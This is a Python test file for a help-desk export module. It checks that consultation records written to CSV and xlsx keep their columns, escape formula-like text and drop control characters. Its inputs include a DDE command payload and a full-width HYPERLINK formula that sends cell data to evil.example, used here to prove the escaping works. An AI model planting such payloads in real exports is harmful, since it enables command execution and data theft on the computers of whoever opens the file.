"""Exports: ingest's case columns, Excel-safe cells, the same rows in CSV and xlsx."""

from __future__ import annotations

import csv
import io

from kb.desk.export import COLUMNS, PENDING, export_bytes, rows
from kb.ingest.schema import SPECS
from kb.store.records import ConsultationRecord


def record(**fields: object) -> ConsultationRecord:
    base: dict[str, object] = {"id": "R000001", "status": "完了", "date": "2025-04-01"}
    return ConsultationRecord(**{**base, **fields})  # type: ignore[arg-type]


def test_columns_are_every_case_field() -> None:
    spec = SPECS["case"]
    assert [name for name, _ in COLUMNS] == [f.name for f in spec.fields]
    assert all(spec.resolve(header) == name for name, header in COLUMNS)


def test_rows_and_csv() -> None:
    table = rows(
        [
            record(citizen_words="相談", actions="案内", departments=("市民課", "税務課")),
            record(id="R000002", status="対応中", citizen_words="+81 から始まる番号"),
        ]
    )
    row = ["desk-R000001", "2025-04-01", "", "", "相談", "案内", "市民課|税務課", "完了"]
    assert table[1] == row  # 相談番号: the case the record becomes
    assert table[2][5] == PENDING
    data = export_bytes([record(citizen_words="=SUM(A1)", actions="@x")], "csv")
    assert data.startswith("\ufeff".encode())
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed[1][4:6] == ["'=SUM(A1)", "'@x"]
    # A leading minus starts a formula too (the classic -2+3+cmd|... payload).
    payload = "-2+3+cmd|' /C calc'!A0"
    data = export_bytes([record(citizen_words=payload, actions="\t=1")], "csv")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed[1][4:6] == ["'" + payload, "'\t=1"]
    # Japanese Excel takes the full-width forms for the ASCII ones.
    wide = '\uff1dHYPERLINK("http://evil.example/?"&A1,"x")'
    data = export_bytes([record(citizen_words=wide, actions="\uff0d1\uff0b1")], "csv")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed[1][4:6] == ["'" + wide, "'\uff0d1\uff0b1"]


def test_xlsx_keeps_formula_like_text_as_text() -> None:
    from openpyxl import load_workbook

    data = export_bytes([record(citizen_words="=SUM(A1)", actions="案内")], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "相談記録"
    assert sheet["E2"].value == "=SUM(A1)"
    assert sheet["E2"].data_type == "s"
    assert [c.value for c in sheet[1]] == [header for _, header in COLUMNS]


def test_control_characters_never_reach_a_cell() -> None:
    from openpyxl import load_workbook

    r = record(citizen_words="相談\x00\x1b[31m\ufffe", actions="案内\x07\uffff")
    sheet = load_workbook(io.BytesIO(export_bytes([r], "xlsx"))).active
    assert sheet["E2"].value == "相談[31m"
    parsed = list(csv.reader(io.StringIO(export_bytes([r], "csv").decode("utf-8-sig"))))
    assert parsed[1][4:6] == ["相談[31m", "案内"]
